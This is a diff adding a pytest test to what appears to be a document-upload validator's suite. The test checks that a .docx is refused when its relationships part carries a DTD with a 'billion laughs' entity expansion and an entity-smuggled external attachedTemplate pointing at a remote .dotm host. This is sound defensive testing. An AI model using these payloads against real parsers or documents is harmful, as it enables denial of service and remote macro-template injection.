@@ -920,6 +920,20 @@ def test_a_part_compressed_in_a_way_office_never_uses_is_refused(admin_client, t
     assert "bz.docx is a damaged or password-protected file" in page
 
 
+def test_a_relationship_part_with_a_dtd_is_refused_before_its_entities_expand(admin_client, ticket):
+    """The package format forbids DTDs; with one, an entity could spell TargetMode="External",
+    or expand a billion times. Refused as damaged, at once."""
+    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10 if n else "lol"}">' for n in range(10))
+    rels = (
+        f'{_XML}<!DOCTYPE Relationships [<!ENTITY ext "External">{laughs}]>'
+        f'<Relationships xmlns="{_REL}"><Relationship Id="rId1" Type="{_RELS}/attachedTemplate" '
+        'Target="http://198.51.100.7/t.dotm" TargetMode="&ext;"/><x>&l9;</x></Relationships>'
+    ).encode()
+
+    page = _refused(admin_client, ticket, "dtd.docx", word({"word/_rels/settings.xml.rels": rels}))
+    assert "dtd.docx is a damaged or password-protected file" in page
+
+
 def test_relationships_past_their_cap_are_refused_without_reading_on(
     admin_client, ticket, monkeypatch
 ):
